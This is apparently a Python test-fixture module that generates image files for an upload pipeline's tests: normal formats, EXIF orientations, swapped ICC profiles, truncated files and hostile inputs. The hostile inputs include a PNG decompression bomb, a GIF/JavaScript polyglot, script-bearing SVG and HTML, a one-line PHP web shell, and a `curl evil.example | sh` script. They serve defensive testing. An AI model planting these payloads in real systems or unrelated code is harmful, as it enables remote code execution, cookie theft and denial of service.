"""Image files made in code for the tests: ordinary, odd and hostile, all as bytes.

Small by default; only the files whose size is the point are large (and those are mostly
header: the bomb compresses 50 MB of pixels to about 50 KB).
"""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path
from typing import Any

import pillow_heif
from PIL import Image, ImageCms, ImageDraw, ImageFile

RED = (220, 20, 30)
GREEN = (20, 200, 40)
BLUE = (30, 40, 220)
WHITE = (255, 255, 255)
# An upright picture's quadrants, clockwise from the top left.
QUADRANTS = (RED, GREEN, WHITE, BLUE)

# The transpose that turns an upright picture into what a camera stores under each EXIF
# orientation: the inverse of what a viewer applies to show it upright.
_STORED_AS = {
    1: None,
    2: Image.Transpose.FLIP_LEFT_RIGHT,
    3: Image.Transpose.ROTATE_180,
    4: Image.Transpose.FLIP_TOP_BOTTOM,
    5: Image.Transpose.TRANSPOSE,
    6: Image.Transpose.ROTATE_90,
    7: Image.Transpose.TRANSVERSE,
    8: Image.Transpose.ROTATE_270,
}


def encode(im: Image.Image, fmt: str, **options: Any) -> bytes:
    buf = io.BytesIO()
    im.save(buf, fmt, **options)
    return buf.getvalue()


def solid(
    size: tuple[int, int] = (64, 48), colour: tuple[int, ...] = RED, mode: str = "RGB"
) -> Image.Image:
    return Image.new(mode, size, colour)


def jpeg(
    size: tuple[int, int] = (64, 48), colour: tuple[int, int, int] = RED, **options: Any
) -> bytes:
    return encode(solid(size, colour), "JPEG", quality=95, **options)


def png(
    size: tuple[int, int] = (64, 48), colour: tuple[int, int, int] = RED, **options: Any
) -> bytes:
    return encode(solid(size, colour), "PNG", **options)


def gif(size: tuple[int, int] = (64, 48), colour: tuple[int, int, int] = RED) -> bytes:
    return encode(solid(size, colour), "GIF")


def webp(size: tuple[int, int] = (64, 48), colour: tuple[int, int, int] = RED) -> bytes:
    return encode(solid(size, colour), "WEBP", lossless=True)


def quadrants(size: tuple[int, int] = (64, 48)) -> Image.Image:
    """Four coloured quadrants: a picture whose way up can be checked."""
    im = Image.new("RGB", size)
    draw = ImageDraw.Draw(im)
    width, height = size
    half_w, half_h = width // 2, height // 2
    boxes = ((0, 0), (half_w, 0), (half_w, half_h), (0, half_h))
    for (left, top), colour in zip(boxes, QUADRANTS, strict=True):
        draw.rectangle((left, top, left + half_w - 1, top + half_h - 1), fill=colour)
    return im


def oriented_jpeg(orientation: int, size: tuple[int, int] = (64, 48)) -> bytes:
    """The quadrants picture stored as a camera would under this EXIF orientation."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    return encode(stored_as(orientation, size), "JPEG", quality=95, exif=exif.tobytes())


def exif_orientation_block(orientation: int, *, big_endian: bool) -> bytes:
    """A minimal EXIF block written by hand: one IFD holding only the orientation tag."""
    order = ">" if big_endian else "<"
    head = (b"MM" if big_endian else b"II") + struct.pack(order + "HI", 42, 8)
    entry = struct.pack(order + "HHIH2x", 0x0112, 3, 1, orientation)
    return b"Exif\0\0" + head + struct.pack(order + "H", 1) + entry + struct.pack(order + "I", 0)


def stored_as(orientation: int, size: tuple[int, int] = (64, 48)) -> Image.Image:
    method = _STORED_AS[orientation]
    upright = quadrants(size)
    return upright if method is None else upright.transpose(method)


def jpeg_with_exif(exif: bytes, orientation: int = 6) -> bytes:
    return encode(stored_as(orientation), "JPEG", quality=95, exif=exif)


def xmp_oriented_jpeg(orientation: int) -> bytes:
    xmp = (
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description '
        f'xmlns:tiff="http://ns.adobe.com/tiff/1.0/" tiff:Orientation="{orientation}"/>'
        "</rdf:RDF></x:xmpmeta>"
    ).encode()
    return encode(stored_as(orientation), "JPEG", quality=95, xmp=xmp)


def gps_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SecretCamMaker"  # Make
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (52.0, 22.0, 12.5), 3: "E", 4: (4.0, 53.0, 30.0)})
    return encode(solid(), "JPEG", exif=exif.tobytes())


def commented_jpeg(comment: bytes) -> bytes:
    return encode(solid(), "JPEG", comment=comment)


def png_with_text(key: str, text: str) -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text(key, text)
    return encode(solid(), "PNG", pnginfo=info)


def payload_in_pixels(payload: bytes, size: int = 32) -> bytes:
    """A PNG whose raw pixel bytes spell the payload, stored uncompressed so it shows."""
    raw = (payload * (size * size * 3 // len(payload) + 1))[: size * size * 3]
    return encode(Image.frombytes("RGB", (size, size), raw), "PNG", compress_level=0)


def cmyk_jpeg(cmyk: tuple[int, int, int, int] = (255, 0, 0, 0)) -> bytes:
    """Pillow writes CMYK JPEGs as Adobe does, inverted, with an APP14 marker."""
    return encode(solid(colour=cmyk, mode="CMYK"), "JPEG", quality=95)


def grey16_png(value: int = 32768) -> bytes:
    return encode(Image.new("I;16", (32, 32), value), "PNG")


def grey32_png(value: int = 32768) -> bytes:
    """Pillow saves mode I as a 16-bit grey PNG too."""
    return encode(Image.new("I", (32, 32), value), "PNG")


def la_png(alpha: int = 100) -> bytes:
    return encode(Image.new("LA", (32, 32), (128, alpha)), "PNG")


def palette_png_with_transparency() -> bytes:
    im = Image.new("P", (32, 32), 0)
    im.putpalette([*RED, *BLUE] + [0, 0, 0] * 254)
    ImageDraw.Draw(im).rectangle((0, 0, 15, 31), fill=1)
    return encode(im, "PNG", transparency=1)


def rgba_png(alpha: int = 0, size: tuple[int, int] = (32, 32)) -> bytes:
    """Left half transparent to the given alpha, right half opaque red."""
    im = Image.new("RGBA", size, (*RED, 255))
    ImageDraw.Draw(im).rectangle((0, 0, size[0] // 2 - 1, size[1] - 1), fill=(*BLUE, alpha))
    return encode(im, "PNG")


def with_profile(profile: bytes, colour: tuple[int, int, int] = RED) -> bytes:
    return encode(solid(colour=colour), "PNG", icc_profile=profile)


def srgb_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def swapped_profile() -> bytes:
    """An sRGB profile with its red and green primaries swapped, and renamed.

    An image tagged with it means red where its pixels say green: a colour-managed pipeline
    must turn (255, 0, 0) into green.
    """
    data = bytearray(srgb_profile())
    count = struct.unpack(">I", data[128:132])[0]
    entries = {bytes(data[132 + i * 12 : 136 + i * 12]): 132 + i * 12 for i in range(count)}
    red, green = entries[b"rXYZ"], entries[b"gXYZ"]
    data[red + 4 : red + 12], data[green + 4 : green + 12] = (
        data[green + 4 : green + 12],
        data[red + 4 : red + 12],
    )
    for old in (b"sRGB", "sRGB".encode("utf-16-be")):
        data = data.replace(old, old.replace(b"R", b"X"))
    return bytes(data)


def animated_gif(
    colours: tuple[tuple[int, int, int], ...] = (RED, GREEN, BLUE),
    durations: tuple[int, ...] = (100, 200, 300),
    size: tuple[int, int] = (40, 30),
    loop: int = 0,
) -> bytes:
    frames = [solid(size, colour) for colour in colours]
    return encode(
        frames[0],
        "GIF",
        save_all=True,
        append_images=frames[1:],
        duration=list(durations),
        loop=loop,
    )


def animated_webp(size: tuple[int, int] = (40, 30)) -> bytes:
    frames = [solid(size, colour) for colour in (RED, GREEN, BLUE)]
    return encode(
        frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=[100, 100, 100], loop=0
    )


def many_frame_gif(frames: int) -> bytes:
    """A 1x1 GIF of that many frames, written by hand: Pillow would merge identical frames."""
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + bytes(RED + BLUE)
    loop = b"!\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    frame = b"!\xf9\x04\x00\x0a\x00\x00\x00" + b"," + struct.pack("<4HB", 0, 0, 1, 1, 0)
    frame += b"\x02\x02\x44\x01\x00"  # LZW: one pixel of colour 0
    return head + loop + frame * frames + b";"


def tiny() -> bytes:
    return png((1, 1))


def panorama() -> bytes:
    return jpeg((4000, 300), BLUE)


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_header_only(width: int, height: int, bit_depth: int = 8, colour_type: int = 2) -> bytes:
    """A PNG whose header claims a size, with a valid CRC and a token image stream."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    idat = zlib.compress(b"\0" * 64)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def png_bomb(side: int = 20_000) -> bytes:
    """A real 1-bit side x side PNG: 50 MB of pixels (400 MB once decoded) in about 50 KB."""
    row = b"\0" * (1 + (side + 7) // 8)  # filter byte, then the bits
    packer = zlib.compressobj(9)
    stream = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", stream)
        + png_chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    data = encode(quadrants((256, 256)), "JPEG", quality=95)
    return data[: len(data) // 2]


def truncated_png() -> bytes:
    data = encode(Image.effect_noise((128, 128), 50), "PNG")
    return data[: len(data) // 2]


def jpeg_with_junk_before_a_marker(junk: bytes = b"\x01\x02") -> bytes:
    """A JPEG with stray bytes between two segments, as a writer that miscounts a length leaves."""
    data = jpeg()
    dqt = data.index(b"\xff\xdb")
    return data[:dqt] + junk + data[dqt:]


def fixture(name: str) -> bytes:
    """A file kept under tests/fixtures/ (sources in its README)."""
    return fixture_path(name).read_bytes()


def fixture_path(name: str) -> Path:
    return Path(__file__).parent / "fixtures" / name


def twelve_bit_jpeg() -> bytes:
    """A JPEG whose frame header says 12 bits a sample (Pillow cannot decode those)."""
    data = bytearray(jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 4] = 12
    return bytes(data)


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(1)</script></svg>"
    )


def html_renamed() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def gif_js_polyglot() -> bytes:
    """A real GIF that is also JavaScript: `GIF89a/*<binary>*/=alert(1);`.

    Its width, 0x2A2F, is stored as the bytes "/*", opening a comment that the tail closes.
    """
    body = encode(Image.new("P", (0x2A2F, 1), 0), "GIF")
    data = b"GIF89a" + body[6:] + b"*/=alert(1);"
    assert data[6:8] == b"/*" and b"*/" not in data[8:-12]
    return data


def over_cap(mib: int = 11) -> bytes:
    return b"\xff\xd8\xff" + b"\0" * (mib * 2**20)


def magic_of_other_formats() -> dict[str, bytes]:
    """The first bytes of formats we refuse, as a browser or a script would send them."""
    return {
        "bmp": encode(solid((4, 4)), "BMP"),
        "tiff": encode(solid((4, 4)), "TIFF"),
        "ico": encode(solid((16, 16)), "ICO"),
        "pdf": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n",
        "mp4": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2",
        "jpeg2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n\x00\x00\x00\x14ftypjp2 ",
        "php": b"<?php system($_GET['c']); ?>",
        "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
        "svg": svg_with_script(),
        "html": html_renamed(),
        "riff_wave": b"RIFF\x24\x00\x00\x00WAVEfmt ",
    }


def decoded(data: bytes) -> ImageFile.ImageFile:
    """An output opened for inspection."""
    im = Image.open(io.BytesIO(data))
    im.load()
    return im


# --- HEIF and AVIF: pillow-heif writes HEIC, Pillow writes AVIF ----------------------------


def heic(im: Image.Image | None = None, **options: Any) -> bytes:
    pillow_heif.register_heif_opener()
    return encode(im or solid(), "HEIF", **options)


def avif(im: Image.Image | None = None, **options: Any) -> bytes:
    return encode(im or solid(), "AVIF", **options)


def oriented(fmt: str, orientation: int, size: tuple[int, int] = (64, 48)) -> bytes:
    """The quadrants picture stored turned, with the orientation for the writer to record:
    both write it as `irot`/`imir` boxes, the way the HEIF specification wants."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    return (heic if fmt == "HEIF" else avif)(stored_as(orientation, size), exif=exif.tobytes())


def isobmff_box(data: bytes, kind: bytes) -> int:
    """Where the box of this type starts (its size field)."""
    return data.index(kind) - 4


def with_ispe(data: bytes, width: int, height: int) -> bytes:
    """Every `ispe` box rewritten to claim width x height: a header that lies."""
    out = bytearray(data)
    pos = out.find(b"ispe")
    while pos >= 0:
        out[pos + 8 : pos + 16] = struct.pack(">II", width, height)
        pos = out.find(b"ispe", pos + 4)
    return bytes(out)


def unrotated(data: bytes) -> bytes:
    """The `irot` box set to no rotation: its EXIF block still says otherwise."""
    pos = data.index(b"irot")
    return data[: pos + 4] + b"\0" + data[pos + 5 :]


def avif_sequence(frames: int = 3, size: tuple[int, int] = (32, 32)) -> bytes:
    images = [solid(size, (40 * i % 256, 90, 160)) for i in range(frames)]
    return encode(images[0], "AVIF", save_all=True, append_images=images[1:], duration=80)


def with_sample_count(data: bytes, count: int) -> bytes:
    """Every track's `stsz` box claiming count samples: many frames, without encoding them."""
    out = bytearray(data)
    pos = out.find(b"stsz")
    while pos >= 0:
        out[pos + 12 : pos + 16] = struct.pack(">I", count)
        pos = out.find(b"stsz", pos + 4)
    return bytes(out)
